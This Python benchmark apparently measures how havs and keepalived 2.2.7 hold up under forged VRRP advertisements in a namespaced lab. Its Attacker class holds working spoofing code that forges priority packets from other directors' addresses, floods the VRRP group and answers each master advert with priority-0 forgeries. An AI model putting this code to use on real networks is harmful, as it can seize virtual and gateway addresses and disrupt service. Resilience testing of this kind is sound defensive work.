"""Forged VRRP adverts against a director pair: havs beside keepalived 2.2.7 (netns on the host, root).

The pair of the seed topology (lvs1 priority 150 MASTER, lvs2 100 BACKUP, adverts every 0.1 s on the
server LAN). From rs1 — a third host on the heartbeat segment — an attacker
1. floods 10,000 lower-priority adverts in ~0.2 s (half from its own address, half forged from lvs2's);
2. then for `P0_SECONDS` answers each of lvs1's adverts with two forged priority-0 adverts, one from lvs1's
   address and one from its own: the rhythm that made a backup take over after its skew and be preempted
   a moment later, again and again.
rs2 captures lvs1's adverts (kernel timestamps); the figures are the worst advert gap, takeovers and
state changes on both directors, and who holds the addresses at the end.

`python -m integration.bench_flood` prints the figures (asserts nothing); the drill
integration/test_vrrp_flood_netns.py runs the havs half and asserts on it.
"""

from __future__ import annotations

import contextlib
import ctypes
import ipaddress
import itertools
import os
import shutil
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from havs.core import wire
from havs.edge.netns import enter_netns
from integration.topology import GATEWAY, VIP, SeedLab

GROUP = "224.0.0.18"
LVS1_HB, LVS2_HB, RS1 = "192.168.72.131", "192.168.72.132", "192.168.72.128"
INTERVAL = 0.1
FLOOD = 10_000
FLOOD_SECONDS = 0.2
P0_SECONDS = 5.0
SO_TIMESTAMPNS = getattr(socket, "SO_TIMESTAMPNS", 35)
SO_ATTACH_FILTER = 26


def _packet(src: str, priority: int) -> bytes:
    """A whole IPv4 packet (we forge the source): TTL 255, TOS network control, protocol 112."""
    adv = wire.Advertisement(3, 51, priority, (ipaddress.IPv4Address(VIP), ipaddress.IPv4Address(GATEWAY)),
                             round(INTERVAL * 100))
    payload = wire.encode(adv, src=ipaddress.IPv4Address(src), dst=ipaddress.IPv4Address(GROUP))
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, 112, 0,
                         socket.inet_aton(src), socket.inet_aton(GROUP))
    return header + payload


def _group_socket(ifname: str, local: str) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(local))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.settimeout(0.2)
    return s


class _InNetns(threading.Thread):
    """A thread that lives in `ns` (sockets it opens belong there) and runs `body(stop)`."""

    def __init__(self, ns: str, body: Callable[[threading.Event], None]) -> None:
        super().__init__(daemon=True)
        self.ns, self.body, self.stop_event = ns, body, threading.Event()
        self.error: BaseException | None = None

    def run(self) -> None:
        try:
            enter_netns(self.ns)
            self.body(self.stop_event)
        except BaseException as e:  # reported by stop()
            self.error = e

    def stop(self) -> None:
        self.stop_event.set()
        self.join(5)
        if self.error is not None:
            raise self.error


class Capture:
    """lvs1's adverts as rs2 hears them: (kernel time, priority)."""

    def __init__(self, lab: SeedLab) -> None:
        self.heard: list[tuple[float, str, int]] = []
        self._thread = _InNetns(lab.ns("rs2"), self._run)
        self._thread.start()

    def _run(self, stop: threading.Event) -> None:
        s = _group_socket("eth0", "192.168.72.129")
        s.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
        # in the kernel, keep only lvs1's packets: the capture must not be slowed by the flood it measures
        src = struct.unpack("!I", socket.inet_aton(LVS1_HB))[0]
        prog = [(0x20, 0, 0, 12), (0x15, 0, 1, src), (0x06, 0, 0, 0xFFFF), (0x06, 0, 0, 0)]  # ld [12]; jeq
        code = b"".join(struct.pack("HBBI", *ins) for ins in prog)
        buf = ctypes.create_string_buffer(code)
        fprog = struct.pack("HL", len(prog), ctypes.addressof(buf))
        s.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
        with s:
            while not stop.is_set():
                try:
                    data, anc, _, _ = s.recvmsg(2048, 64)
                except TimeoutError:
                    continue
                stamp = next((struct.unpack("qq", d[:16]) for lvl, typ, d in anc
                              if lvl == socket.SOL_SOCKET and typ == SO_TIMESTAMPNS), None)
                t = stamp[0] + stamp[1] / 1e9 if stamp else time.time()
                ihl = (data[0] & 0x0F) * 4
                self.heard.append((t, socket.inet_ntoa(data[12:16]), data[ihl + 2]))

    def worst_gap(self, src: str, t0: float, t1: float) -> tuple[float, int]:
        """Worst gap between src's adverts with priority > 0 over wall-clock [t0, t1] (the gap running at
        t0 included), and their count."""
        every = sorted(t for t, s, p in list(self.heard) if s == src and p > 0)
        before = [t for t in every if t < t0][-1:]
        times = before + [t for t in every if t0 <= t <= t1]
        gaps = [b - a for a, b in itertools.pairwise(times)]
        return (max(gaps) if gaps else float("inf")), len(times)

    def close(self) -> None:
        self._thread.stop()


@dataclass
class Attack:
    flood_sent: int = 0
    flood_seconds: float = 0.0
    p0_sent: int = 0
    windows: dict[str, tuple[float, float]] = field(default_factory=dict)  # wall clock


class Attacker:
    """rs1 on the heartbeat segment, sending forged adverts to the VRRP group."""

    def __init__(self, lab: SeedLab) -> None:
        self.lab = lab

    def run(self) -> Attack:
        result = Attack()
        thread = _InNetns(self.lab.ns("rs1"), lambda stop: self._attack(result))
        thread.start()
        thread.join(60)
        thread.stop()
        return result

    def _attack(self, result: Attack) -> None:
        # The attacker is another machine with a CPU of its own: here it shares the host's with both
        # directors, whose VRRP processes run real-time; without the same it would send at their mercy.
        with contextlib.suppress(OSError):
            os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(2))  # this thread only
        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")  # rs1 on the server LAN
        out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        listen = _group_socket("eth0", RS1)
        with out, listen:
            low = [_packet(RS1, 50), _packet(LVS2_HB, 50)]
            batches = 20
            per = FLOOD // batches
            t0 = time.time()
            start = time.monotonic()
            for b in range(batches):
                for i in range(per):
                    out.sendto(low[i & 1], (GROUP, 0))
                    result.flood_sent += 1
                time.sleep(max(0.0, start + (b + 1) * FLOOD_SECONDS / batches - time.monotonic()))
            result.flood_seconds = time.monotonic() - start
            result.windows["flood"] = (t0, time.time())
            time.sleep(0.5)
            # the priority-0 rhythm: right after each of lvs1's adverts
            p0 = [_packet(LVS1_HB, 0), _packet(RS1, 0)]
            t0 = time.time()
            end = time.monotonic() + P0_SECONDS
            while time.monotonic() < end:
                try:
                    data, (src, _) = listen.recvfrom(2048)
                except TimeoutError:
                    continue
                ihl = (data[0] & 0x0F) * 4
                if src == LVS1_HB and data[ihl + 2] > 0:
                    for pkt in p0:
                        out.sendto(pkt, (GROUP, 0))
                        result.p0_sent += 1
            result.windows["p0"] = (t0, time.time())


def count_transitions(lines: list[str], marker: str) -> int:
    return sum(marker in line for line in lines)


def drill(lab: SeedLab, pair: Any, read_states: Callable[[], dict[str, int]]) -> dict[str, Any]:
    """Run the attack against an elected pair; figures for the report."""
    capture = Capture(lab)
    try:
        time.sleep(1.0)
        before = read_states()
        t0 = time.time()
        attack = Attacker(lab).run()
        time.sleep(0.5)
        t1 = time.time()
        after = read_states()
    finally:
        capture.close()
    flood_gap, _ = capture.worst_gap(LVS1_HB, attack.windows["flood"][0] - INTERVAL, attack.windows["flood"][1] + 1)
    worst, adverts = capture.worst_gap(LVS1_HB, t0, t1)
    return {
        "flood_sent": attack.flood_sent, "flood_seconds": attack.flood_seconds, "p0_sent": attack.p0_sent,
        "worst_gap": worst, "flood_gap": flood_gap, "adverts": adverts,
        "transitions": {n: after[n] - before[n] for n in after},
        "holders_vip": [n for n in ("lvs1", "lvs2") if f"{VIP}/24" in lab.addresses(n, "eth0")],
        "holders_gw": [n for n in ("lvs1", "lvs2") if f"{GATEWAY}/24" in lab.addresses(n, "eth1")],
    }


def _print(rows: dict[str, dict[str, Any]]) -> None:
    names = list(rows)
    print(f"\n{'forged adverts, advert 0.1 s':44}" + "".join(f"{n:>18}" for n in names))
    lines = [
        ("lower-priority flood sent (in s)", lambda r: f"{r['flood_sent']} in {r['flood_seconds']:.2f}"),
        ("priority-0 forgeries sent", lambda r: str(r["p0_sent"])),
        ("worst lvs1 advert gap, flood (ms)", lambda r: f"{r['flood_gap'] * 1000:.0f}"),
        ("worst lvs1 advert gap, whole drill (ms)", lambda r: f"{r['worst_gap'] * 1000:.0f}"),
        ("state changes lvs1 / lvs2", lambda r: f"{r['transitions']['lvs1']} / {r['transitions']['lvs2']}"),
        ("VIP / gateway held by", lambda r: f"{','.join(r['holders_vip'])} / {','.join(r['holders_gw'])}"),
    ]
    for label, fmt in lines:
        print(f"{label:44}" + "".join(f"{fmt(rows[n]):>18}" for n in names))


def main() -> int:
    if os.geteuid() != 0:
        print("needs root (network namespaces)", file=sys.stderr)
        return 2
    from integration import test_vrrp_netns as netns  # the pair and keepalived helpers

    rows: dict[str, dict[str, Any]] = {}
    with SeedLab() as lab:
        pair = netns.elect(lab, INTERVAL)
        try:
            rows["havs"] = drill(lab, pair, lambda: {n: len(pair.events(n, "vrrp.state")) for n in ("lvs1", "lvs2")})
        finally:
            pair.stop_all()
        keepalived = shutil.which("keepalived")
        if keepalived is None:
            print("keepalived not installed: havs only")
        else:
            for node in ("lvs1", "lvs2"):
                lab.recover(node)
            pair = netns.Pair(lab, INTERVAL)
            netns.start_keepalived(lab, "lvs1", 3, INTERVAL, 150, pair)
            netns.wait_until("keepalived lvs1 MASTER", lambda: pair.holds("lvs1") == (True, True), 10)
            netns.start_keepalived(lab, "lvs2", 3, INTERVAL, 100, pair)
            time.sleep(3 * INTERVAL + 1.5)

            def states() -> dict[str, int]:
                logs = {n: pair.logs[f"keepalived-{n}"].read_text(errors="replace") for n in ("lvs1", "lvs2")}
                return {n: count_transitions(text.splitlines(), "Entering") for n, text in logs.items()}

            try:
                rows["keepalived 2.2.7"] = drill(lab, pair, states)
            finally:
                for proc in pair.procs.values():
                    if proc.poll() is None:
                        proc.send_signal(signal.SIGTERM)
                        proc.wait(5)
    _print(rows)
    return 0


if __name__ == "__main__":
    sys.exit(main())
